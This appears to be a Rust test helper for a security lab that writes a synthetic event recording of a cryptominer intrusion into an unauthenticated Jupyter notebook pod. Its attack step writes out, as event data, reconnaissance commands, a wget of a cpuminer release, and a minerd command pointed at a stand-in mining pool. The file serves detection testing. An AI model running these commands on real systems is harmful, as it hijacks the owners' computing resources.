//! Shared by the scenario tests: paths, and the SYNTHETIC recording of the cryptominer
//! scenario (`scenarios/cryptominer.synthetic.ndjson`).
//!
//! The synthetic recording is written by a program from the hand-written event sequence below,
//! which mirrors what the local lab's sensor reports for the scenario (the pod's processes,
//! its DNS answers and connections in the lab's 198.18.0.0/15 network). It exists so that the
//! replay path, the recording format and the snapshot comparison are tested independently of a
//! live lab; the recording of a real run is `scenarios/cryptominer.ndjson`. The test
//! `synthetic_recording_is_what_its_source_generates` checks that the committed file is what this
//! code writes; `GUARDLAB_WRITE_SYNTHETIC=1 cargo test -p guardlab --test scenario_replay`
//! rewrites it after a change here.
#![allow(dead_code)]

use std::collections::BTreeMap;
use std::net::IpAddr;
use std::path::{Path, PathBuf};

use guardlab::scenario::recording::{
    FACT_POOL_CLIENTS, FACT_TERMINAL_OUTPUT, Header, RECORDING_FORMAT, RecordedOn, RecordedStep,
    Recording,
};
use guardlab_events::{
    Connection, ContainerInfo, DnsAnswer, Event, EventBody, Listen, ProcessExec, ProcessExit,
    ProcessFork, ProcessKey, Protocol,
};

pub fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("..")
}

pub fn scenario_file() -> PathBuf {
    root().join("scenarios/cryptominer.yaml")
}

pub fn synthetic_recording() -> PathBuf {
    root().join("scenarios/cryptominer.synthetic.ndjson")
}

/// The synthetic recording's snapshots (a real run's are in `snapshots/cryptominer/`).
pub fn synthetic_snapshots() -> PathBuf {
    root().join("snapshots/cryptominer/synthetic")
}

const CGROUP: u64 = 7_301;
const JOVYAN: u32 = 1000;

/// Builds events in time order, 1 ms apart.
struct Pod {
    ts: u64,
    boot_ns: u64,
    next_pid: u32,
    next_ns_pid: u32,
    next_port: u16,
    events: Vec<Event>,
}

struct Proc {
    key: ProcessKey,
    ns_pid: u32,
}

fn ip(s: &str) -> IpAddr {
    s.parse().expect("an address")
}

impl Pod {
    fn push(&mut self, body: EventBody) {
        self.ts += 1_000_000;
        self.boot_ns += 1_000_000;
        self.events.push(Event::new(self.ts, body));
    }

    fn wait_ms(&mut self, ms: u64) {
        self.ts += ms * 1_000_000;
        self.boot_ns += ms * 1_000_000;
    }

    fn new_proc(&mut self) -> Proc {
        let p = Proc {
            key: ProcessKey(self.next_pid, self.boot_ns),
            ns_pid: self.next_ns_pid,
        };
        self.next_pid += 3; // Other processes on the host take pids too.
        self.next_ns_pid += 1;
        p
    }

    fn exec_as(&mut self, p: &Proc, parent: Option<&Proc>, exe: &str, argv: &[&str], euid: u32) {
        // The kernel names a process after the file given to execve, cut at 15 bytes: for a
        // script run through its `#!` interpreter that is the script (argv[1] after exec).
        let file = if argv.len() > 1 && exe.contains("python") && argv[1].starts_with('/') {
            argv[1]
        } else {
            argv[0]
        };
        let comm: String = file
            .rsplit('/')
            .next()
            .unwrap_or(file)
            .chars()
            .take(15)
            .collect();
        let name = |uid: u32| {
            if uid == 0 {
                "root".to_string()
            } else {
                "jovyan".to_string()
            }
        };
        self.push(EventBody::Exec(ProcessExec {
            key: p.key,
            cgroup_id: CGROUP,
            pid: p.key.0,
            ns_pid: p.ns_pid,
            parent: parent.map(|q| q.key),
            exe: exe.into(),
            comm,
            argv: argv.iter().map(|a| a.to_string()).collect(),
            argv_truncated: false,
            uid: JOVYAN,
            euid,
            gid: 100,
            user: Some(name(JOVYAN)),
            euser: Some(name(euid)),
            exe_status: Default::default(),
            killed: false,
        }));
    }

    /// `parent` forks a child that execs a program.
    fn spawn(&mut self, parent: &Proc, exe: &str, argv: &[&str]) -> Proc {
        self.spawn_as(parent, exe, argv, JOVYAN)
    }

    fn spawn_as(&mut self, parent: &Proc, exe: &str, argv: &[&str], euid: u32) -> Proc {
        let child = self.new_proc();
        self.push(EventBody::Fork(ProcessFork {
            key: child.key,
            cgroup_id: CGROUP,
            pid: child.key.0,
            ns_pid: child.ns_pid,
            parent: parent.key,
            comm: String::new(),
        }));
        self.exec_as(&child, Some(parent), exe, argv, euid);
        child
    }

    fn exit(&mut self, p: &Proc, code: i32) {
        self.push(EventBody::Exit(ProcessExit {
            key: p.key,
            cgroup_id: CGROUP,
            pid: p.key.0,
            code: Some(code),
            signal: None,
        }));
    }

    fn connect(&mut self, p: &Proc, protocol: Protocol, remote: &str, port: u16) {
        let local_port = self.next_port;
        self.next_port += 7;
        let local = if remote.starts_with("127.") {
            "127.0.0.1"
        } else {
            "198.18.0.2"
        };
        self.push(EventBody::Connect(Connection {
            process: p.key,
            cgroup_id: CGROUP,
            protocol,
            local_ip: Some(ip(local)),
            local_port: Some(local_port),
            remote_ip: ip(remote),
            remote_port: port,
            refused: false,
        }));
    }

    fn accept(&mut self, p: &Proc, port: u16, peer: &str) {
        let peer_port = self.next_port;
        self.next_port += 7;
        self.push(EventBody::Accept(Connection {
            process: p.key,
            cgroup_id: CGROUP,
            protocol: Protocol::Tcp,
            local_ip: Some(ip("198.18.0.2")),
            local_port: Some(port),
            remote_ip: ip(peer),
            remote_port: peer_port,
            refused: false,
        }));
    }

    /// A name looked up through the lab's resolver, then the answer.
    fn resolve(&mut self, p: &Proc, name: &str, address: &str) {
        self.connect(p, Protocol::Udp, "198.18.1.53", 53);
        self.push(EventBody::Dns(DnsAnswer {
            cgroup_id: CGROUP,
            name: name.into(),
            addresses: vec![ip(address)],
        }));
    }

    fn take(&mut self) -> Vec<Event> {
        std::mem::take(&mut self.events)
    }
}

/// The synthetic recording of the cryptominer scenario, one entry per step of
/// `scenarios/cryptominer.yaml`.
pub fn synthetic() -> Recording {
    let mut pod = Pod {
        ts: 1_764_324_000_000_000_000,
        boot_ns: 86_400_000_000_000,
        next_pid: 24_310,
        next_ns_pid: 1,
        next_port: 40_100,
        events: Vec::new(),
    };
    let mut steps = Vec::new();
    let mut step = |name: &str, events: Vec<Event>, facts: BTreeMap<String, serde_json::Value>| {
        steps.push(RecordedStep {
            name: name.into(),
            events,
            facts,
        });
    };
    let none = BTreeMap::new;

    // setup: the container, its entry point exec'ing the notebook server, which listens.
    pod.push(EventBody::Container(ContainerInfo {
        cgroup_id: CGROUP,
        container_id: "5d3c7a9e1f2b4c6d8e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d".into(),
        container_name: "minimal-notebook".into(),
        image: "jupyter/minimal-notebook:latest".into(),
        image_id: "sha256:0f9e8d7c6b5a49382716f5e4d3c2b1a0f9e8d7c6b5a49382716f5e4d3c2b1a0".into(),
        namespace: "cryptominer".into(),
        namespace_labels: BTreeMap::from([(
            "kubernetes.io/metadata.name".into(),
            "cryptominer".into(),
        )]),
        pod_name: "jupyter-notebook-6b8f5d7c9d-k4x2m".into(),
        pod_labels: BTreeMap::from([
            ("app".into(), "jupyter-notebook".into()),
            ("app.kubernetes.io/component".into(), "notebook".into()),
            ("app.kubernetes.io/name".into(), "jupyter-notebook".into()),
            ("app.kubernetes.io/part-of".into(), "guardlab".into()),
            ("pod-template-hash".into(), "6b8f5d7c9d".into()),
        ]),
        machine: "guardlab-synthetic-host".into(),
    }));
    let server = pod.new_proc();
    pod.exec_as(
        &server,
        None,
        "/usr/bin/python3.11",
        &[
            "/opt/venv/bin/python",
            "/usr/local/bin/start-notebook.py",
            "--IdentityProvider.token=",
            "--ServerApp.password=",
        ],
        JOVYAN,
    );
    pod.exec_as(
        &server,
        None,
        "/usr/bin/python3.11",
        &["/opt/venv/bin/python", "/opt/venv/bin/jupyter", "notebook"],
        JOVYAN,
    );
    pod.exec_as(
        &server,
        None,
        "/usr/bin/python3.11",
        &[
            "/opt/venv/bin/python",
            "/opt/venv/bin/jupyter-notebook",
            "--ServerApp.ip=0.0.0.0",
            "--ServerApp.port=8888",
        ],
        JOVYAN,
    );
    // The exec events above carry the parent of the container's first process: none.
    pod.push(EventBody::Listen(Listen {
        process: server.key,
        cgroup_id: CGROUP,
        protocol: Protocol::Tcp,
        ip: ip("0.0.0.0"),
        port: 8888,
    }));
    pod.accept(&server, 8888, "198.18.0.1"); // the readiness check, through the port-forward
    step("setup", pod.take(), none());

    // baseline-hello: a kernel starts; the browser side talks to the server through the forward.
    pod.wait_ms(400);
    pod.accept(&server, 8888, "198.18.0.1");
    let kernel = pod.spawn(
        &server,
        "/usr/bin/python3.11",
        &["/opt/venv/bin/python", "-m", "ipykernel_launcher", "-f", "/home/jovyan/.local/share/jupyter/runtime/kernel-3f1d2c4b-5a6e-4f70-8b9c-0d1e2f3a4b5c.json"],
    );
    for port in [52_811, 52_813, 52_815] {
        pod.connect(&kernel, Protocol::Tcp, "127.0.0.1", port); // kernel <-> server, random ports
    }
    pod.accept(&server, 8888, "198.18.0.1");
    step("baseline-hello", pod.take(), none());

    // baseline-pip: `!pip ...` runs through a shell; pip talks to the lab's package index.
    pod.wait_ms(300);
    let sh = pod.spawn(
        &kernel,
        "/usr/bin/dash",
        &[
            "/bin/sh",
            "-c",
            "pip install --upgrade pip setuptools wheel",
        ],
    );
    let pip = pod.spawn(
        &sh,
        "/usr/bin/python3.11",
        &[
            "/opt/venv/bin/python",
            "/opt/venv/bin/pip",
            "install",
            "--upgrade",
            "pip",
            "setuptools",
            "wheel",
        ],
    );
    pod.resolve(&pip, "pypi.guardlab.test", "198.18.2.20");
    pod.connect(&pip, Protocol::Tcp, "198.18.2.20", 443);
    pod.connect(&pip, Protocol::Tcp, "198.18.2.20", 443);
    pod.exit(&pip, 0);
    pod.exit(&sh, 0);
    step("baseline-pip", pod.take(), none());
    step("fingerprint", Vec::new(), none());
    step("create-policy", Vec::new(), none());

    // terminal-ls: a terminal's login shell, and `ls`.
    pod.wait_ms(500);
    pod.accept(&server, 8888, "198.18.0.1");
    let bash = pod.spawn(&server, "/usr/bin/bash", &["/bin/bash", "-l"]);
    pod.wait_ms(200);
    let ls = pod.spawn(&bash, "/usr/bin/ls", &["ls", "--color=auto"]);
    pod.exit(&ls, 0);
    step(
        "terminal-ls",
        pod.take(),
        BTreeMap::from([(
            FACT_TERMINAL_OUTPUT.to_string(),
            serde_json::json!(["work"]),
        )]),
    );
    step("terminal-deviations", Vec::new(), none());
    step("enforce", Vec::new(), none());

    // attack
    pod.wait_ms(300);
    let id = pod.spawn(&bash, "/usr/bin/id", &["id"]);
    pod.exit(&id, 0);
    let sudo = pod.spawn_as(&bash, "/usr/bin/sudo", &["sudo", "-l"], 0);
    pod.exit(&sudo, 1);
    // `ping` is not installed: bash finds nothing to run.
    let curl = pod.spawn(&bash, "/usr/bin/curl", &["curl", "sourceforge.net"]);
    pod.resolve(&curl, "sourceforge.net", "198.18.2.10");
    pod.connect(&curl, Protocol::Tcp, "198.18.2.10", 80);
    pod.exit(&curl, 0);
    let ps = pod.spawn(&bash, "/usr/bin/ps", &["ps", "-aux"]);
    pod.exit(&ps, 0);
    let wget = pod.spawn(
        &bash,
        "/usr/bin/wget",
        &["wget", "https://sourceforge.net/projects/cpuminer/files/pooler-cpuminer-2.5.1-linux-x86_64.tar.gz/download"],
    );
    pod.resolve(&wget, "sourceforge.net", "198.18.2.10");
    pod.connect(&wget, Protocol::Tcp, "198.18.2.10", 443);
    pod.exit(&wget, 0);
    let tar = pod.spawn(&bash, "/usr/bin/tar", &["tar", "-xzf", "download"]);
    let gzip = pod.spawn(&tar, "/usr/bin/gzip", &["gzip", "-d"]);
    pod.exit(&gzip, 0);
    pod.exit(&tar, 0);
    let minerd = pod.spawn(
        &bash,
        "/home/jovyan/minerd",
        &[
            "./minerd",
            "--url",
            "fakeminingpool.example.com",
            "-u",
            "ME",
            "-p",
            "passwd",
        ],
    );
    pod.resolve(&minerd, "fakeminingpool.example.com", "198.18.2.30");
    pod.connect(&minerd, Protocol::Tcp, "198.18.2.30", 3333);
    // What the terminal showed, one entry per command of the step: the runner does not wait
    // for the events of a program the shell did not find (ping is not in the image).
    let shown = [
        "uid=1000(jovyan) gid=100(users) groups=100(users)",
        "[sudo] password for jovyan: \nsudo: a password is required",
        "bash: ping: command not found",
        "",
        "USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND",
        "Connecting to sourceforge.net (sourceforge.net)|198.18.2.10|:443... connected.",
        "",
        "Starting Stratum on stratum+tcp://fakeminingpool.example.com:3333",
    ];
    step(
        "attack",
        pod.take(),
        BTreeMap::from([(FACT_TERMINAL_OUTPUT.to_string(), serde_json::json!(shown))]),
    );

    let client = serde_json::json!({
        "peer": "198.18.0.2:40233",
        "first_contact": {"secs_since_epoch": 1_764_324_003u64, "nanos_since_epoch": 0},
        "user_agent": "cpuminer/2.5.1 (guardlab stand-in)",
        "user": "ME",
        "password": "passwd",
        "subscribed": true,
        "authorized": true,
        "shares_accepted": 2,
        "shares_rejected": 0,
        "difficulty": 1.52587890625e-5,
        "last_reject": null,
        "disconnected": null
    });
    step(
        "pool-reached",
        Vec::new(),
        BTreeMap::from([(FACT_POOL_CLIENTS.to_string(), serde_json::json!([client]))]),
    );
    step("attack-deviations", Vec::new(), none());
    step("investigate", Vec::new(), none());
    step("cleanup", Vec::new(), none());

    Recording {
        header: Header {
            format: RECORDING_FORMAT,
            scenario: "cryptominer".into(),
            events_format: guardlab_events::FORMAT_VERSION,
            backend: RecordedOn::Synthetic,
            synthetic: true,
            note: "SYNTHETIC: written by harness/tests/scenario_common/mod.rs from a hand-written event sequence, not by a live run".into(),
        },
        steps,
    }
}
